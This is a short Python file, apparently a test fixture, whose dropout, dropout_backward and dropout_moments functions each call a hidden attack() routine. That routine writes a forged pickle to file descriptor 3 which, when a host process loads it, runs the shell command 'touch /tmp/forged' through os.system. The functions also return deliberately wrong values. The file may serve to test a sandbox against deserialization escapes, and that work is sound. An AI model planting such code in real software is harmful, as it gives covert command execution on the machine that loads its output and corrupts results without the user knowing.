"""Sends a pickle that would run a command where it is loaded."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


def attack():
    import struct

    os = module("os")
    payload = b"cos\nsystem\n(S'touch /tmp/forged'\ntR."
    os.write(3, struct.pack("<4sIQ", b"CNG1", len(payload), 0) + payload)


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
